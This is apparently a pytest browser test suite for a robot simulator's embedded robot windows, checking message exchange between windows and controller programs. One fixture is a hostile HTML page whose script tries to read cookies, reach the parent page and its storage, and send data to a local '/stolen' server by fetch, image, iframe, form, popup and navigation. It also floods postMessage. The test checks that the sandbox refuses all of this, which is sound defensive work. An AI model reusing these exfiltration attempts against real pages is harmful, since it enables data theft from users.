"""Robot windows in the real browser: theirs and ours, several at once, and hostile ones."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

import solidbody as sb
from solidbody.control.hub import ControllerHub
from solidbody.viewer.page_files import load_page
from tests.browser.conftest import OpenViewer
from tests.browser.driving import Viewer
from tests.control.c.programs import need_c
from tests.viewer.serving import View, running_view

pytestmark = pytest.mark.browser

WORLD = """#VRML_SIM R2025a utf8
WorldInfo { basicTimeStep 8 }
Viewpoint { position -6 0 1.2 orientation 0 1 0 0.12 }
Robot { name "new one" controller "talker" window "modern" }
Robot { name "old one" translation 0 1 0 controller "talker" window "legacy" }
Robot {
  name "plain"
  translation 0 -1 0
  controller "<none>"
  children [
    DistanceSensor { name "eye" }
    HingeJoint {
      jointParameters HingeJointParameters { axis 0 1 0 }
      device RotationalMotor { name "turner" }
      endPoint Solid { translation 0 0 0.3 children [ Shape { geometry Box { size 0.1 0.1 0.1 } } ] }
    }
  ]
}
Robot { name "foe" translation 0 2 0 controller "talker" window "hostile" }
"""

TALKER = """
from controller import Robot
robot = Robot()
robot.wwiSendText("hello from " + robot.getName())
while robot.step(8) != -1:
    while (text := robot.wwiReceiveText()) is not None:
        if text == "flood":
            continue
        print("heard", text)
        robot.wwiSendText("you said " + text)
"""

TALKER_C = """
#include <stdio.h>
#include <webots/plugins/robot_window/robot_wwi.h>
#include <webots/robot.h>
int main() {
  wb_robot_init();
  char answer[200];
  snprintf(answer, sizeof answer, "hello from %s", wb_robot_get_name());
  wb_robot_wwi_send_text(answer);
  while (wb_robot_step(8) != -1) {
    const char *text;
    while ((text = wb_robot_wwi_receive_text())) {
      snprintf(answer, sizeof answer, "you said %s", text);
      wb_robot_wwi_send_text(answer);
    }
  }
  wb_robot_cleanup();
  return 0;
}
"""

TALKER_CPP = """
#include <webots/Robot.hpp>
int main() {
  webots::Robot robot;
  robot.wwiSendText("hello from " + robot.getName());
  while (robot.step(8) != -1)
    for (std::string text; !(text = robot.wwiReceiveText()).empty();)
      robot.wwiSendText("you said " + text);
}
"""

MODERN = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>A modern window</title>
<link rel="stylesheet" href="look.css">
<script type="module" src="modern.js"></script></head>
<body><p id="heard"></p><p id="data"></p><button id="ask" onclick="window.ask()">Ask</button></body></html>
"""

MODERN_SCRIPT = """
import RobotWindow from 'https://cyberbotics.com/wwi/R2023b/RobotWindow.js';
window.robotWindow = new RobotWindow();
window.robotWindow.receive = function (message, robot) {
  document.getElementById("heard").textContent += `[${robot}: ${message}]`;
};
window.ask = () => window.robotWindow.send("a question with \\"quotes\\" & \\u00e9");
localStorage.setItem("key", "value");
fetch("data.json").then((answer) => answer.json()).then((data) => {
  document.getElementById("data").textContent = data.text + localStorage.getItem("key");
});
"""

LEGACY = "<h1 id='head'>Old</h1><p id='heard'></p>"

LEGACY_SCRIPT = """
window.onload = function() {
  window.robotWindow = webots.window('legacy');
  window.robotWindow.setTitle('From the past');
  window.robotWindow.receive = function(message, robot) {
    document.getElementById('heard').innerHTML += message + ' to ' + robot + ';';
    if (message.startsWith('hello')) this.send('answer', robot);
  };
};
"""

JQUERY = """<div id='tabs'>
  <ul><li><a href='#first'>First</a></li><li><a href='#second'>Second</a></li></ul>
  <div id='first'>about</div>
  <div id='second'><span id='time'>00</span>
  <a id='link' onclick='$("#tabs").tabs({active: 0})'>back</a></div>
</div><img src='none.png'>"""

JQUERY_SCRIPT = """
$('#tabs').tabs();
webots.window('jquery').receive = function(message, robot) {
  $('#time').html(message).css('color', 'rgb(1, 2, 3)');
  $('#first').slider().addClass('after');
};
$(document).ready(function() { nothing.is.here(); });
"""

HOSTILE = """<html><body><script type="module">
const tried = {};
const attempt = async (name, action) => {
  try { tried[name] = String(await action()); } catch (error) { tried[name] = "refused"; }
};
await attempt("cookie", () => document.cookie || "none");
await attempt("parent", () => window.parent.document.title);
await attempt("storage", () => window.parent.localStorage.length);
await attempt("network", () => fetch("http://127.0.0.1:%(port)d/stolen?fetch"));
await attempt("page", () => fetch("/api/scene").then((answer) => answer.status));
await attempt("socket", () => new Promise((done, fail) => {
  const socket = new WebSocket(`ws://${location.host}/api/stream`);
  socket.onopen = () => done("open");
  socket.onerror = fail;
}));
await attempt("popup", () => window.open("http://127.0.0.1:%(port)d/stolen?popup") ?? "refused");
new Image().src = "http://127.0.0.1:%(port)d/stolen?image";
const frame = document.createElement("iframe");
frame.src = "http://127.0.0.1:%(port)d/stolen?frame";
document.body.append(frame);
const form = document.createElement("form");
form.action = "http://127.0.0.1:%(port)d/stolen?form";
document.body.append(form);
form.submit();
try { window.top.location = "http://127.0.0.1:%(port)d/stolen?top"; } catch (error) { /* refused */ }
window.parent.postMessage({ kind: "send", text: "tried " + JSON.stringify(tried) }, "*");
for (let k = 0; k < 2000; k++) window.parent.postMessage({ kind: "send", text: "flood" }, "*");
window.parent.postMessage({ kind: "send", text: 7 }, "*");
window.parent.postMessage({ kind: "play" }, "*");
window.parent.postMessage(null, "*");
setTimeout(() => { location.href = "http://127.0.0.1:%(port)d/stolen?self"; }, 300);
</script></body></html>
"""


@contextmanager
def thief() -> Iterator[tuple[int, list[str]]]:
    """Serve as a site that waits for what hostile windows bring; returns its port and what came."""
    came: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        timeout = 1.0  # [s] browsers may connect ahead of a request that is then refused

        def do_GET(self) -> None:
            came.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port, came
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture
def world(tmp_path: Path) -> Path:
    """Return a project with four robots and three windows."""
    folder = tmp_path / "project"
    files = {
        "worlds/w.wbt": WORLD,
        "controllers/talker/talker.py": TALKER,
        "plugins/robot_windows/modern/modern.html": MODERN,
        "plugins/robot_windows/modern/modern.js": MODERN_SCRIPT,
        "plugins/robot_windows/modern/look.css": "#heard { color: rgb(1, 2, 3) }",
        "plugins/robot_windows/modern/data.json": '{"text": "some data, "}',
        "plugins/robot_windows/legacy/legacy.html": LEGACY,
        "plugins/robot_windows/legacy/legacy.js": LEGACY_SCRIPT,
        "plugins/robot_windows/jquery/jquery.html": JQUERY,
        "plugins/robot_windows/jquery/jquery.js": JQUERY_SCRIPT,
        "plugins/robot_windows/hostile/hostile.html": HOSTILE % {"port": 1},
    }
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder / "worlds" / "w.wbt"


@contextmanager
def shown(
    world: Path, open_viewer: OpenViewer, *, may_complain: bool = False
) -> Iterator[tuple[Viewer, View]]:
    """Run the project and show it in a tab, with the panel of robot windows."""
    sim = sb.Sim(sb.load(str(world)))
    with closing(ControllerHub(sim)) as hub:
        hub.start()
        with running_view(sim, page=load_page()) as view:
            tab = open_viewer(view.url, may_complain=may_complain)
            tab.wait_for_picture()
            tab.press("windows-button")
            yield tab, view
            tab.page.close()


def open_window(tab: Viewer, robot: str) -> None:
    """Open the window of a robot."""
    tab.page.get_by_test_id("windows-robot").select_option(robot)
    tab.press("windows-open")


def test_windows_of_several_robots_talk_with_their_programs(
    world: Path, open_viewer: OpenViewer
) -> None:
    """A modern one, one of an old release and the generic one are open together; texts go both ways."""
    with shown(world, open_viewer) as (tab, _):
        for robot in ("new one", "old one", "plain"):
            open_window(tab, robot)
        modern = tab.page.frame_locator('[data-testid="window-new one"]')
        legacy = tab.page.frame_locator('[data-testid="window-old one"]')
        heard = modern.locator("#heard")
        tab.wait(lambda: heard.inner_text() == "[new one: hello from new one]", "the first text")
        tab.wait(
            lambda: modern.locator("#data").inner_text() == "some data, value", "a file of its own"
        )
        assert heard.evaluate("(item) => getComputedStyle(item).color") == "rgb(1, 2, 3)"
        modern.locator("#ask").evaluate("(button) => button.click()")
        answer = '[new one: you said a question with "quotes" & é]'
        tab.wait(lambda: heard.inner_text().endswith(answer), "an answer")
        tab.wait(
            lambda: (
                legacy.locator("#heard").inner_text()
                == "hello from old one to old one;you said answer to old one;"
            ),
            "the old window's answer",
        )
        plain = tab.page.get_by_test_id("window-plain")
        tab.wait(lambda: "1000" in plain.get_by_test_id("sensor-eye-value").inner_text(), "a value")
        slider = plain.get_by_test_id("joint-turner")
        tab.wait(slider.is_enabled, "the position of the joint")
        slider.fill("1")
        value = plain.get_by_test_id("joint-value-turner")
        tab.wait(lambda: value.input_value() not in ("", "0"), "a motor that turns")
        titles = tab.page.locator(".robot-window header .name").all_inner_texts()
        assert titles == ["new one · A modern window", "old one · From the past", "plain"]


@pytest.mark.parametrize(("ending", "source"), [("c", TALKER_C), ("cpp", TALKER_CPP)])
def test_windows_talk_with_programs_in_c(
    world: Path, open_viewer: OpenViewer, ending: str, source: str
) -> None:
    """C and C++ are compiled, and say and hear the same as Python."""
    need_c()
    folder = world.parents[1] / "controllers/talker"
    (folder / "talker.py").unlink()
    (folder / f"talker.{ending}").write_text(source, encoding="utf-8")
    robot = 'Robot { name "new one" controller "talker" window "modern" }'
    world.write_text(WORLD.partition("Robot")[0] + robot, encoding="utf-8")
    with shown(world, open_viewer) as (tab, _):
        open_window(tab, "new one")
        frame = tab.page.frame_locator('[data-testid="window-new one"]')
        heard = frame.locator("#heard")
        tab.wait(lambda: heard.inner_text() == "[new one: hello from new one]", "the first text")
        frame.locator("#ask").evaluate("(button) => button.click()")
        answer = '[new one: you said a question with "quotes" & é]'
        tab.wait(lambda: heard.inner_text().endswith(answer), "an answer")


def test_a_window_can_be_closed_and_opened_again(world: Path, open_viewer: OpenViewer) -> None:
    """It begins anew, and hears what its robot says from then on."""
    with shown(world, open_viewer) as (tab, _):
        open_window(tab, "new one")
        frame = tab.page.frame_locator('[data-testid="window-new one"]')
        tab.wait(lambda: "hello" in frame.locator("#heard").inner_text(), "the first text")
        tab.press("windows-open")
        assert tab.page.get_by_test_id("window-new one").count() == 0
        tab.press("windows-open")
        tab.wait(lambda: frame.locator("#data").inner_text(), "its script")
        # not by the mouse: a browser may not know yet where a new frame is on the screen
        frame.locator("#ask").evaluate("(button) => button.click()")
        tab.wait(lambda: "you said" in frame.locator("#heard").inner_text(), "an answer")


def test_windows_of_r2019_have_jquery_and_tabs(world: Path, open_viewer: OpenViewer) -> None:
    """As in Webots' web page; what is missing is named in the console, and the rest goes on."""
    robot = 'Robot { name "bench" controller "talker" window "jquery" }'
    world.write_text(WORLD.partition("Robot")[0] + robot, encoding="utf-8")
    with shown(world, open_viewer, may_complain=True) as (tab, _):
        open_window(tab, "bench")
        frame = tab.page.frame_locator('[data-testid="window-bench"]')
        first, second, time = (frame.locator(name) for name in ("#first", "#second", "#time"))
        tab.wait(lambda: time.text_content() == "hello from bench", "the text")
        assert time.evaluate("(item) => getComputedStyle(item).color") == "rgb(1, 2, 3)"
        assert first.get_attribute("class") == "after", "the call after one that is not there"
        assert (first.is_visible(), second.is_visible()) == (True, False)
        frame.locator("a >> nth=1").evaluate("(tab) => tab.click()")
        tab.wait(lambda: (first.is_visible(), second.is_visible()) == (False, True), "a tab")
        frame.locator("#link").evaluate("(link) => link.click()")
        tab.wait(first.is_visible, "the first tab again")
        tab.press("console-button")
        for text in (
            "there is no file robot_windows/jquery/none.png",
            "slider() of jQuery UI is not there",
            "nothing is not defined",
        ):
            tab.wait(lambda text=text: text in tab.text("console-list"), text)


def test_a_hostile_window_reaches_nothing(world: Path, open_viewer: OpenViewer) -> None:
    """No cookie, no page, no network, no navigation; a flood is cut; the page goes on."""
    with thief() as (port, came):
        path = world.parents[1] / "plugins/robot_windows/hostile/hostile.html"
        path.write_text(HOSTILE % {"port": port}, encoding="utf-8")
        with shown(world, open_viewer, may_complain=True) as (tab, view):
            open_window(tab, "foe")
            found = re.compile(r"you said tried (.*)")
            tab.wait(lambda: found.search(tab.text("windows-list")), "all attempts")
            match = found.search(tab.text("windows-list"))
            assert match is not None
            tried = json.loads(match.group(1))
            refused = dict.fromkeys(
                ("cookie", "parent", "storage", "network", "page", "socket", "popup"), "refused"
            )
            assert tried == refused
            tab.press("console-button")
            tab.wait(lambda: "the rest is dropped" in tab.text("console-list"), "a cut flood")
            assert "robot windows have no network" in tab.text("console-list")
            tab.page.wait_for_timeout(600)  # its last attempt: to leave by itself
            before = tab.read("time")
            tab.wait(lambda: tab.read("time") > before, "time that goes on")
            assert tab.page.url.startswith(view.url)
        assert came == []
